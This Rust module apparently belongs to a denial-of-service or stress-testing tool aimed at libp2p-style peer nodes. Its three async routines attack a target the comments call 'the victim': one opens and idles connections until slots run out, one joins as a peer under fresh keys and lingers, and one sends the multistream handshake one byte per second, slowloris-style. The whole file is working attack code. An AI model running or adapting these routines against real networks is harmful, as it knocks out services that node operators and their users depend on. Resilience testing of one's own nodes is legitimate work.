//! Too many connections, and too slow ones.

use std::{io, sync::Arc, time::Duration};

use futures::AsyncWriteExt as _;
use tokio::time::sleep;

use super::{PROTOCOLS, session};
use crate::{
    Target,
    client::{dial, until_ended},
    tally::Tally,
};

/// Connects, says nothing, and holds on until the victim lets go.
pub(super) async fn hold(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let socket = dial(target, target.source(number)).await.inspect_err(|_| tally.refused())?;
    tally.connected();
    until_ended(socket).await;
    tally.ended();
    Ok(())
}

/// Becomes a peer with a new key, and holds on until the victim lets go.
pub(super) async fn join(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let session = session(target, number, &PROTOCOLS, tally).await?;
    while !session.is_over() {
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

/// Begins a handshake, a byte a second.
pub(super) async fn dawdle(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    tally.tried();
    let mut socket = dial(target, target.source(number)).await.inspect_err(|_| tally.refused())?;
    tally.connected();
    for byte in b"\x13/multistream/1.0.0\n" {
        let written = socket.write_all(&[*byte]).await;
        if written.is_err() {
            break;
        }
        tally.sent(1);
        sleep(Duration::from_secs(1)).await;
    }
    tally.ended();
    Ok(())
}
